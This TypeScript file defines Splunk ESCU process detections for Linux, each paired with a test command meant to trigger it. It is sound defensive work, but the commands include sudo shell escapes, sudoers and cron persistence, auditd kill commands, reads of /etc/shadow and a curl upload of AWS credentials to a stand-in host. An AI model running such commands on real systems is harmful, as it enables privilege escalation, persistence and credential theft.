/**
 * Published searches of the Splunk Enterprise Security Content Update (ESCU) over Endpoint.Processes. For the build alone:
 * docs/detections.md is made of it, and test/system/detections.test.ts runs each command.
 */
import type { Detection } from '../../../splunk/detection';

const shell = '/bin/sh';

/** A program that sudo may run and that starts a shell in a way of its own: it is the command line of sudo that decides. */
const escalation = (program: string, pattern: string, ...args: readonly string[]): Detection => ({
  title: `Linux ${program} Privilege Escalation`, when: { process: [`*sudo*${pattern}*`] }, command: ['sudo', ...args],
});

/** Whose command line decides, whatever runs it. */
const said = (title: string, patterns: readonly string[], ...command: readonly string[]): Detection => ({ title: `Linux ${title}`, when: { process: patterns }, command });
const script = (title: string, pattern: string, text: string): Detection => said(title, [pattern], 'sh', '-c', text);

const called = (title: string, names: readonly string[], ...command: readonly string[]): Detection => ({ title: `Linux ${title}`, when: { process_name: names }, command });
const calledWith = (title: string, names: readonly string[], patterns: readonly string[], ...command: readonly string[]): Detection =>
  ({ title: `Linux ${title}`, when: { process_name: names, process: patterns }, command });

const byRoot: readonly Detection[] = [
  escalation('APT', 'apt*APT::Update::Pre-Invoke::', 'apt', 'update', '-o', `APT::Update::Pre-Invoke::=${shell}`),
  escalation('apt-get', 'apt-get*APT::Update::Pre-Invoke::', 'apt-get', 'update', '-o', `APT::Update::Pre-Invoke::=${shell}`),
  escalation('AWK', 'awk*BEGIN*system', 'awk', `BEGIN {system("${shell}")}`),
  escalation('GNU Awk', 'gawk*BEGIN*{system', 'gawk', `BEGIN {system("${shell}")}`),
  escalation('Busybox', 'busybox*sh', 'busybox', 'sh'),
  escalation('c89', 'c89*-wrapper', 'c89', '-wrapper', `${shell},-s`, '.'),
  escalation('c99', 'c99*-wrapper', 'c99', '-wrapper', `${shell},-s`, '.'),
  escalation('Composer', 'composer*run-script', 'composer', 'run-script', 'x'),
  escalation('Cpulimit', 'cpulimit*-l*-f', 'cpulimit', '-l', '100', '-f', shell),
  escalation('Csvtool', 'csvtool*call', 'csvtool', 'call', `${shell};false`, 'table.csv'),
  escalation('Emacs', 'emacs*--eval', 'emacs', '-Q', '-nw', '--eval', `(term "${shell}")`),
  escalation('Find', 'find*-exec', 'find', '.', '-exec', shell, ';', '-quit'),
  escalation('GDB', 'gdb*-nx*-ex*!', 'gdb', '-nx', '-ex', '!sh', '-ex', 'quit'),
  escalation('Gem', 'gem*open*-e*-c', 'gem', 'open', '-e', `${shell} -c ${shell}`, 'rdoc'),
  escalation('Make', 'make*-s*--eval', 'make', '-s', '--eval', `x: ; ${shell}`),
  escalation('Node', 'node*-e*child_process.spawn*stdio', 'node', '-e', `child_process.spawn("${shell}", { stdio: "inherit" })`),
  escalation('Octave', 'octave-cli*--eval*system', 'octave-cli', '--eval', `system("${shell}")`),
  escalation('OpenVPN', 'openvpn*--dev*--script-security*--up', 'openvpn', '--dev', 'null', '--script-security', '2', '--up', `${shell} -c sh`),
  escalation('PHP', 'php*-r*system', 'php', '-r', `system("${shell}");`),
  escalation('Puppet', 'puppet*apply*-e*exec', 'puppet', 'apply', '-e', `exec { "${shell} -c id": }`),
  escalation('RPM', 'rpm*--eval*lua:os.execute', 'rpm', '--eval', `%{lua:os.execute("${shell}")}`),
  escalation('Ruby', 'ruby*-e*exec', 'ruby', '-e', `exec "${shell}"`),
  escalation('Sqlite3', 'sqlite3*.shell', 'sqlite3', '/dev/null', `.shell ${shell}`),
  said('Docker Privilege Escalation', ['*docker*-v*/*:*', '*docker*exec*sh*'], 'docker', 'run', '--rm', '-v', '/:/mnt', 'alpine', 'chroot', '/mnt'),
  called('Doas Tool Execution', ['doas'], 'doas', 'id'),
  called('Sudo OR Su Execution', ['sudo', 'su'], 'su', '-c', 'id'),
  called('Visudo Utility Execution', ['visudo'], 'visudo'),
  script('NOPASSWD Entry In Sudoers File', '*NOPASSWD:*', 'echo "joe ALL=(ALL) NOPASSWD:ALL" >> sudoers'),
  said('Setuid Using Chmod Utility', ['*chmod * u+s *', '*chmod u+s *', '*chmod g+s *'], 'chmod', 'u+s', 'tool'),
  said('Setuid Using Setcap Utility', ['*setcap cap_setuid+ep *', '*setcap cap_net_raw+ep *'], 'setcap', 'cap_setuid+ep', 'tool'),
  said('Change File Owner To Root', ['*chown root *', '*chown * root *'], 'chown', 'root', 'tool'),
  said('Common Process For Elevation Control', ['*chmod *', '*chown *', '*chattr *', '*setcap *'], 'chattr', '-i', 'notes'),
  calledWith('Insert Kernel Module Using Insmod Utility', ['kmod', 'sudo'], ['*insmod*'], 'sudo', 'insmod', './own.ko'),
  calledWith('Install Kernel Module Using Modprobe Utility', ['kmod', 'sudo'], ['*modprobe*'], 'sudo', 'modprobe', 'dummy'),
];

const toStay: readonly Detection[] = [
  said('Add User Account', ['*useradd *', '*adduser *'], 'useradd', '-m', 'joe'),
  calledWith('Adding Crontab Using List Parameter', ['crontab'], ['* -l*'], 'crontab', '-l'),
  calledWith('Edit Cron Table Parameter', ['crontab'], ['*crontab * -e*', '*crontab -e*'], 'crontab', '-u', 'joe', '-e'),
  called('At Application Execution', ['at', 'atd'], 'at', 'now'),
  script('Possible Append Command To At Allow Config File', '*echo*/etc/at.allow', 'echo joe >> /etc/at.allow'),
  script('Possible Append Command To Profile Config File', '*echo*~/.bashrc', 'echo ./own >> ~/.bashrc'),
  script('Possible Append Cronjob Entry on Existing Cronjob File', '*echo*/etc/cron*', 'echo "* * * * * root ./own" >> /etc/crontab'),
  said('Possible Cronjob Modification With Editor', ['*nano */etc/cron*', '*vim */etc/cron*'], 'nano', '/etc/cron.d/own'),
  script('Preload Hijack Library Calls', '*LD_PRELOAD*', 'LD_PRELOAD=./own.so id'),
  calledWith('SSH Authorized Keys Modification', ['bash', 'cat'], ['*/authorized_keys*'], 'bash', '-c', 'echo key >> ~/.ssh/authorized_keys'),
  said('Service Started Or Enabled', ['*systemctl start *', '*systemctl enable *'], 'systemctl', 'enable', 'own.timer'),
  said('Service Restarted', ['*systemctl *restart*', '*service *restart*'], 'systemctl', 'restart', 'cron'),
];

const toHarm: readonly Detection[] = [
  calledWith('Disable Services', ['systemctl', 'service'], ['* disable*'], 'systemctl', 'disable', 'auditd'),
  calledWith('Stop Services', ['systemctl', 'service'], ['*stop*'], 'service', 'auditd', 'stop'),
  calledWith('Impair Defenses Process Kill', ['pkill'], ['*pkill *'], 'pkill', '-9', 'auditd'),
  called('Hardware Addition SwapOff', ['swapoff'], 'swapoff', '-a'),
  calledWith('Data Destruction Command', ['rm'], ['* -rf* --no-preserve-root', '* -fr* --no-preserve-root'], 'rm', '-rf', './nothing', '--no-preserve-root'),
  calledWith('Deleting Critical Directory Using RM Command', ['rm'], ['* -rf */var/log/*', '* -rf */etc/*', '* -rf */boot/*'], 'rm', '-rf', './nothing/var/log/old'),
  calledWith('Indicator Removal Service File Deletion', ['rm'], ['*rm *.service'], 'rm', 'own.service'),
  calledWith('DD File Overwrite', ['dd'], ['*of=*'], 'dd', 'if=/dev/zero', 'of=nothing', 'count=1'),
  calledWith('Shred Overwrite Command', ['shred'], ['*-u*', '*-z*', '*-n*'], 'shred', '-u', 'nothing'),
];

const toReadAndMove: readonly Detection[] = [
  calledWith('Possible Access To Credential Files', ['cat', 'nano*', 'vim*'], ['*/etc/shadow*', '*/etc/passwd*'], 'cat', '/etc/shadow'),
  calledWith('Possible Access To Sudoers File', ['cat', 'nano*', 'vim*'], ['*/etc/sudoers*'], 'vim', '/etc/sudoers'),
  calledWith('Possible Access Or Modification Of sshd Config File', ['cat', 'nano*', 'vim*'], ['*/etc/ssh/sshd_config'], 'nano', '/etc/ssh/sshd_config'),
  calledWith('Clipboard Data Copy', ['xclip'], ['*-selection *', '*clipboard*'], 'xclip', '-selection', 'clipboard', '-o'),
  called('Ingress Tool Transfer Hunting', ['curl', 'wget'], 'wget', 'http://192.0.2.1/tool'),
  calledWith('Ingress Tool Transfer with Curl', ['curl'], ['*-O*', '*--output*'], 'curl', '--output', 'tool', 'http://192.0.2.1/tool'),
  calledWith('Curl Upload File', ['curl'], ['*-F *.aws/credentials*', '*-T *.aws/credentials*'], 'curl', '-F', 'file=@/root/.aws/credentials', 'http://192.0.2.1/'),
  calledWith('Proxy Socks Curl', ['curl'], ['*-x *', '*socks5h://*'], 'curl', '-x', 'socks5h://192.0.2.1:9050', 'http://192.0.2.2/'),
  calledWith('Ngrok Reverse Proxy Usage', ['ngrok'], ['*http*', '*tcp*', '*start*'], 'ngrok', 'tcp', '22'),
  calledWith('SSH Remote Services Script Execute', ['ssh'], ['*oStrictHostKeyChecking*http:*'], 'ssh', '-oStrictHostKeyChecking=no', 'joe@192.0.2.1', 'fetch http://192.0.2.2/tool'),
  { title: 'Linux Obfuscated Files or Information Base64 Decode', when: { process_path: ['*/base64'], process: ['*-d*'] }, command: ['base64', '-d', 'notes'] },
  calledWith('Decode Base64 to Shell', ['sh', 'bash', 'dash'], ['*base64 -d*|*', '*base64 --decode*|*'], 'bash', '-c', 'echo aWQ= | base64 -d | bash'),
];

const byParent: readonly Detection[] = [
  { title: 'Linux Java Spawning Shell', when: { parent_process_name: ['java', 'tomcat'], process_name: ['sh', 'bash', 'dash'] }, command: ['sh', '-c', 'id'], parent: 'java' },
  {
    title: 'Linux Kworker Process In Writable Process Path', when: { parent_process: ['*[kworker/*'], parent_process_path: ['/tmp/*', '/home/*'], process: ['*iptables*'] },
    command: ['iptables', '-L'], parent: 'kworker', parentTitle: '[kworker/0:1]',
  },
];

const byLink: readonly Detection[] = [
  { ...calledWith('Kernel Module Enumeration', ['kmod'], ['*lsmod*'], 'lsmod'), linkTo: 'kmod' },
  { ...calledWith('Insert Kernel Module Using Insmod Utility', ['kmod', 'sudo'], ['*insmod*'], 'insmod', './own.ko'), linkTo: 'kmod' },
  { ...calledWith('Install Kernel Module Using Modprobe Utility', ['kmod', 'sudo'], ['*modprobe*'], 'modprobe', 'dummy'), linkTo: 'kmod' },
];

export const processDetections: readonly Detection[] = [...byRoot, ...toStay, ...toHarm, ...toReadAndMove, ...byParent, ...byLink];
